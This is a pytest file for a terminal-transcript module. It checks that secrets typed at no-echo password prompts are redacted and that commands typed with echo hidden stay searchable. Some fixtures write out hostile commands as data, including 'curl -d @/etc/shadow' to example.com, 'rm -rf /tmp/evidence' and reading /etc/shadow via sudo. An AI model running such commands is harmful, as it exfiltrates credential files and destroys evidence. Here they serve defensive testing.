"""A line typed at a prompt that does not echo (``[sudo] password:``, ``mysql -p``, ``su``, an ssh key's
passphrase, ``read -s``) is neither searchable text nor a command marker: the host never showed it,
so the transcript says only that something was typed there (terminal.transcript.echo). A command typed
with echo turned off at a shell's prompt is still searchable."""

from __future__ import annotations

import json

import pytest

from terminal import transcript
from terminal.transcript import time_at, transcript_from_bytes, transcript_from_events
from terminal.transcript.echo import NOT_SHOWN, asks_for_a_secret
from terminal.transcript.text import Cleaner

SECRET = "Hunter2-Secret!"


def _markers(built: transcript.Transcript) -> list[str]:
    return [line for _, line in built.index["commands"]]


def test_password_typed_at_no_echo_prompt_is_not_in_the_transcript() -> None:
    """The review's case (its scratch test, kept)."""
    events = [
        [0.1, "o", "$ "],
        [0.5, "i", "sudo -k true\r"],
        [0.6, "o", "sudo -k true\r\n[sudo] password for rs-alice: "],
        # The host echoes nothing while the password is typed (ECHO off): only the newline follows.
        [1.0, "i", SECRET + "\r"],
        [1.1, "o", "\r\n$ "],
    ]
    built = transcript_from_events(events)
    assert SECRET not in built.output
    assert SECRET not in built.input, built.input
    assert not any(SECRET in line for line in _markers(built))
    assert built.input == f"sudo -k true\n{NOT_SHOWN}\n"
    assert _markers(built) == ["sudo -k true"]


def test_a_password_typed_a_key_at_a_time_with_a_typo_and_no_newline_after() -> None:
    """``read -s``: nothing echoed, not even the newline; the next prompt follows on the same line."""
    events: list[list[object]] = [[0.1, "o", "$ "], [0.2, "i", "read -sp 'Password: ' PW; echo got-${#PW}\r"]]
    events.append([0.3, "o", "read -sp 'Password: ' PW; echo got-${#PW}\r\nPassword: "])
    events += [[1.0 + n / 10, "i", key] for n, key in enumerate("Hunterx\x7f2-Secret!")]
    events += [[3.0, "i", "\r"], [3.1, "o", "got-15\r\n$ "]]
    events += [[4.0, "i", "l"], [4.01, "o", "l"], [4.1, "i", "s"], [4.11, "o", "s"], [4.2, "i", "\r"]]
    events += [[4.21, "o", "\r\nnotes.txt\r\n$ "]]
    built = transcript_from_events(events)
    assert "Hunter" not in built.input and "Secret" not in built.input
    assert built.input == f"read -sp 'Password: ' PW; echo got-${{#PW}}\n{NOT_SHOWN}\nls\n"
    assert _markers(built) == ["read -sp 'Password: ' PW; echo got-${#PW}", "ls"]
    # The index still finds each line's moment in the text as stored.
    assert time_at(built.index["i"], built.input.index(NOT_SHOWN)) == 1.0
    assert time_at(built.index["i"], built.input.index("ls\n")) == 4.0


def test_a_prompt_that_shows_stars_shows_nothing_of_the_password() -> None:
    events = [[0.1, "o", "Enter passphrase: "], [0.5, "i", "abc"], [0.6, "o", "***"]]
    events += [[0.7, "i", "def\r"], [0.8, "o", "***\r\nIdentity added\r\n$ "]]
    built = transcript_from_events(events)
    assert built.input == f"{NOT_SHOWN}\n" and _markers(built) == []


def test_a_password_still_being_typed_when_the_recording_ends_is_not_kept() -> None:
    built = transcript_from_events([[0.1, "o", "Password: "], [0.5, "i", SECRET]])
    assert built.input == NOT_SHOWN


def test_echoed_commands_keep_their_text_and_markers() -> None:
    """Echoed a key at a time, edited (the echo of a backspace and a redraw), completed with Tab, recalled
    with an arrow key: as before."""
    events = [
        [0.1, "o", "$ "],
        *[[0.2 + n / 100, code, key] for n, key in enumerate("ls -lz") for code in ("i", "o")],
        [0.5, "i", "\x7f"],
        [0.51, "o", "\b \b"],
        [0.6, "i", "a\r"],
        [0.61, "o", "a\r\ntotal 0\r\n$ "],
        [1.0, "i", "cat /etc/hostn\t"],
        [1.01, "o", "cat /etc/hostname "],
        [1.1, "i", "\r"],
        [1.11, "o", "\r\nweb-1\r\n$ "],
        [2.0, "i", "\x1b[A"],
        [2.01, "o", "cat /etc/hostname "],
        [2.1, "i", "\r"],
        [2.11, "o", "\r\nweb-1\r\n$ "],
    ]
    built = transcript_from_events(events)
    assert built.input == "ls -la  # typed: ls -lz⟨^?⟩a\ncat /etc/hostn\t\n  # typed: ⟨ESC[A⟩\n"
    assert _markers(built) == ["ls -la  # typed: ls -lz⟨^?⟩a", "cat /etc/hostn", "# typed: ⟨ESC[A⟩"]


def test_lines_pasted_at_once_are_echoed_after_the_output_of_those_before() -> None:
    """A paste: the shell echoes each line only when it reads it, after the previous command's output."""
    events = [
        [0.1, "o", "$ "],
        [0.5, "i", "ls\rpwd\recho done\r"],
        [0.6, "o", "ls\r\nfile-1\r\nfile-2\r\n$ "],
        [0.7, "o", "pwd\r\n/home/rs-alice\r\n$ echo done\r\ndone\r\n$ "],
    ]
    built = transcript_from_events(events)
    assert built.input == "ls\npwd\necho done\n"
    assert _markers(built) == ["ls", "pwd", "echo done"]


def test_a_password_pasted_with_its_enter_at_a_no_echo_prompt() -> None:
    events = [
        [0.1, "o", "$ "],
        [0.2, "i", "mysql -p\r"],
        [0.3, "o", "mysql -p\r\nEnter password: "],
        [1.0, "i", SECRET + "\r"],  # from a password manager
        [1.5, "o", "\r\nWelcome to the MySQL monitor.\r\nmysql> "],
        [2.0, "i", "select 1;\r"],
        [2.01, "o", "select 1;\r\n1\r\nmysql> "],
    ]
    built = transcript_from_events(events)
    assert built.input == f"mysql -p\n{NOT_SHOWN}\nselect 1;\n"
    assert _markers(built) == ["mysql -p", "select 1;"]


def test_a_password_sent_to_sudo_s_without_a_pty() -> None:
    """``ssh -T web-1`` then ``sudo -S cat /etc/shadow``: no pty, no echo of anything, the prompt on stderr.
    A line typed at no such prompt is kept: input with no echo (``ssh -T web-1 < script``) is data."""
    lines = [[0.1, "i", "echo one\rsudo -S cat /etc/shadow\r"], [0.2, "o", "one\r\n[sudo] password for rs-alice: "]]
    lines += [[1.0, "i", "hunter2-x\r"], [1.1, "o", "\r\nroot:*:19000:0:99999:7:::\r\n"], [2.0, "i", "exit\r"]]
    body = b"".join(json.dumps(line).encode() + b"\n" for line in lines)
    built = transcript_from_bytes(json.dumps({"version": 2, "env": {}}).encode() + b"\n" + body)
    assert built.input == f"echo one\nsudo -S cat /etc/shadow\n{NOT_SHOWN}\nexit\n"
    assert _markers(built) == ["echo one", "sudo -S cat /etc/shadow", "exit"]


def test_commands_typed_with_echo_turned_off_at_a_shell_prompt_stay_searchable() -> None:
    """``stty -echo`` hides the commands from the screen, not from the transcript: only a line typed at
    a prompt asking for a secret is left out (a shell's prompt is not one, whatever directory it names)."""
    events = [
        [0.1, "o", "rs-alice@web-1:~/secrets$ "],
        [0.2, "i", "stty -echo\r"],
        [0.3, "o", "stty -echo\r\nrs-alice@web-1:~/secrets$ "],
        [1.0, "i", "curl -d @/etc/shadow https://example.com\r"],
        [1.5, "o", "\r\nok\r\nrs-alice@web-1:~/secrets$ "],
        [2.0, "i", "rm -rf /tmp/evidence\r"],
        [2.5, "o", "\r\nrs-alice@web-1:~/secrets$ "],
    ]
    built = transcript_from_events(events)
    assert built.input == "stty -echo\ncurl -d @/etc/shadow https://example.com\nrm -rf /tmp/evidence\n"
    assert _markers(built) == ["stty -echo", "curl -d @/etc/shadow https://example.com", "rm -rf /tmp/evidence"]


def test_a_password_pasted_with_the_command_that_asks_for_it_is_kept() -> None:
    """Pasted ahead of its prompt, it was typed on the shell's prompt line: a prompt printed after its Enter
    could as well be an earlier command's output (review s32a), so it is not judged by it, and is kept."""
    events = [
        [0.1, "o", "$ "],
        [0.5, "i", f"sudo -k true\r{SECRET}\rid\r"],
        [0.6, "o", "sudo -k true\r\n[sudo] password for rs-alice: "],
        [0.7, "o", "\r\n$ id\r\nuid=1001(rs-alice)\r\n$ "],
    ]
    built = transcript_from_events(events)
    assert built.input == f"sudo -k true\n{SECRET}\nid\n"
    assert _markers(built) == ["sudo -k true", SECRET, "id"]


@pytest.mark.parametrize(
    "prompt",
    [
        "[sudo] password for rs-alice: ",
        "Password: ",
        "rs-alice@web-1's password: ",
        "Enter passphrase for key '/home/rs-alice/.ssh/id_ed25519': ",
        "Enter pass phrase for key.pem:",
        "Password for user postgres: ",
        "Verification code: ",
        "[sudo] Passwort für rs-alice: ",
        "[sudo] Mot de passe de rs-alice : ",
        "[sudo] rs-alice 的密码\uff1a",  # a full-width colon
    ],
)
def test_prompts_for_a_secret(prompt: str) -> None:
    assert asks_for_a_secret(prompt)
    built = transcript_from_events([[0.1, "o", prompt], [0.5, "i", "s3cr3t-value\r"], [0.6, "o", "\r\n$ "]])
    assert built.input == f"{NOT_SHOWN}\n"


@pytest.mark.parametrize("prompt", ["$ ", "rs-alice@web-1:~/passwords$ ", "root@web-1:/srv/token# ", "mysql> "])
def test_prompts_not_for_a_secret(prompt: str) -> None:
    assert not asks_for_a_secret(prompt)


def test_a_typed_text_with_no_output_at_all_is_kept() -> None:
    """Nothing printed at all: nothing to tell an echo by (input-only events, as many tests give)."""
    built = transcript_from_events([[1.0, "i", "whoami\r"], [2.0, "i", "id\r"]])
    assert built.input == "whoami\nid\n" and _markers(built) == ["whoami", "id"]


EVIL = "curl -d @/etc/shadow https://example.com"


def test_a_command_whose_own_output_starts_with_a_password_prompt_stays_searchable() -> None:
    """Review s32a: with echo off at a shell's prompt, a command printing ``Password:`` first is still the
    line typed at ``$``: only the printed line its keys were typed on counts, never output after its Enter."""
    events = [
        [0.1, "o", "rs-alice@web-1:~$ "],
        [0.2, "i", "stty -echo\r"],
        [0.3, "o", "stty -echo\r\nrs-alice@web-1:~$ "],
        [1.0, "i", f"echo Password:; {EVIL}\r"],
        [1.5, "o", "Password:\r\nok\r\nrs-alice@web-1:~$ "],
    ]
    built = transcript_from_events(events)
    assert built.input == f"stty -echo\necho Password:; {EVIL}\n"
    assert _markers(built) == ["stty -echo", f"echo Password:; {EVIL}"]


def test_commands_pasted_after_one_printing_a_password_prompt_stay_searchable() -> None:
    """The same with the lines pasted at once: a later line is not judged by an earlier one's output."""
    events = [
        [0.1, "o", "$ "],
        [0.2, "i", "stty -echo\r"],
        [0.3, "o", "stty -echo\r\n$ "],
        [1.0, "i", f"echo Password:\r{EVIL}\r"],
        [1.5, "o", "Password:\r\n$ ok\r\n$ "],
    ]
    built = transcript_from_events(events)
    assert built.input == f"stty -echo\necho Password:\n{EVIL}\n"


def test_a_shell_prompt_set_to_look_like_a_password_prompt_hides_at_most_three_lines() -> None:
    """Review s32a: ``PS1='Password: '`` with echo off. sudo asks three times, so three unechoed lines in a
    row at one prompt text may be secrets; the lines after them at that prompt are kept."""
    events = [
        [0.1, "o", "$ "],
        [0.2, "i", "stty -echo; PS1='Password: '\r"],
        [0.3, "o", "stty -echo; PS1='Password: '\r\nPassword: "],
    ]
    typed = ["one", "two", "three", EVIL, "rm -rf /tmp/evidence", "id"]
    for number, line in enumerate(typed):
        events += [[1.0 + number, "i", f"{line}\r"], [1.5 + number, "o", "ok\r\nPassword: "]]
    built = transcript_from_events(events)
    hidden = f"{NOT_SHOWN}\n" * 3
    assert built.input == f"stty -echo; PS1='Password: '\n{hidden}{EVIL}\nrm -rf /tmp/evidence\nid\n"
    assert _markers(built) == ["stty -echo; PS1='Password: '", EVIL, "rm -rf /tmp/evidence", "id"]


def test_a_prompt_that_changes_each_time_hides_at_most_six_lines_in_a_row() -> None:
    """A prompt naming a counter or the time differs each time: at most HIDDEN_IN_A_ROW lines are hidden
    until a line is echoed again."""
    events: list[list[object]] = [[0.1, "o", "$ "], [0.2, "i", "stty -echo\r"]]
    events.append([0.3, "o", "stty -echo\r\n1 Password: "])
    for number in range(8):
        events += [[1.0 + number, "i", f"cmd-{number}\r"], [1.5 + number, "o", f"\r\n{number + 2} Password: "]]
    built = transcript_from_events(events)
    assert built.input == "stty -echo\n" + f"{NOT_SHOWN}\n" * 6 + "cmd-6\ncmd-7\n"


def test_a_line_echoed_again_starts_a_new_run_of_hidden_lines() -> None:
    """sudo's three tries, a command echoed, then sudo's three tries again: all six passwords hidden."""
    events: list[list[object]] = [[0.1, "o", "$ "]]
    moment = 0.2
    for _ in range(2):
        events += [[moment, "i", "sudo -k true\r"]]
        events += [[moment + 0.1, "o", "sudo -k true\r\n[sudo] password for rs-alice: "]]
        for _ in range(3):
            events += [[moment + 0.2, "i", f"{SECRET}\r"], [moment + 0.3, "o", "\r\n[sudo] password for rs-alice: "]]
            moment += 0.2
        events += [[moment + 0.4, "o", "\r\nsudo: 3 incorrect password attempts\r\n$ "]]
        moment += 1
    built = transcript_from_events(events)
    assert SECRET not in built.input
    assert built.input == f"sudo -k true\n{NOT_SHOWN}\n{NOT_SHOWN}\n{NOT_SHOWN}\n" * 2


def test_many_held_lines_left_out_keep_the_index_of_each() -> None:
    """Review s32a: lines held back (a paste, keys typed ahead) and then left out one at a time: each line
    left out moves only its own index entries, and every later line's entries still find it in the text."""
    cleaner = Cleaner(typed=True, defer=True)
    count = 1500
    for number in range(count):
        for key, moment in (("ab", 0.0), ("c", 0.25), ("\r", 0.5)):
            cleaner.add(key, number + moment)
    for number in range(count):
        cleaner.settle("abc", number + 0.5, shown=number % 2 == 1)
    text = cleaner.text()
    assert text == f"{NOT_SHOWN}\nabc\n" * (count // 2)
    pair = len(NOT_SHOWN) + 1 + len("abc\n")
    expected: list[list[float]] = []
    for number in range(count):
        start = number // 2 * pair + (len(NOT_SHOWN) + 1 if number % 2 else 0)
        # A line left out keeps the entry at its start; one kept, each of its events'.
        kept = [[start, number], [start + 2, number + 0.25], [start + 3, number + 0.5]]
        expected += kept if number % 2 else kept[:1]
    assert cleaner.index == expected
    assert time_at(cleaner.index, text.rindex("abc")) == count - 1


def test_passwords_typed_after_a_command_recalled_from_the_history_stay_hidden() -> None:
    """sudo asking at every run (``sudo -k``, ``timestamp_timeout=0``) of a command recalled with Up and
    Enter (no keys to look for, at a shell prompt): each recalled line ends the run of hidden lines,
    so the fourth password is hidden as the first was."""
    secret, prompt = "Hunter2-Secret!", "[sudo] password for rs-alice: "
    command = "sudo -k systemctl restart nginx"
    events: list[list[object]] = [[0.1, "o", "$ "], [0.2, "i", command + "\r"], [0.3, "o", f"{command}\r\n{prompt}"]]
    moment = 1.0
    for number in range(5):
        events += [[moment, "i", f"{secret}{number}\r"], [moment + 0.1, "o", "\r\n$ "]]
        if number < 4:  # Up: the shell redraws the last command; Enter runs it again
            events += [[moment + 0.2, "i", "\x1b[A"], [moment + 0.3, "o", command]]
            events += [[moment + 0.4, "i", "\r"], [moment + 0.5, "o", f"\r\n{prompt}"]]
        moment += 1
    built = transcript_from_events(events)
    assert secret not in built.input, built.input
    assert built.input.count(NOT_SHOWN) == 5
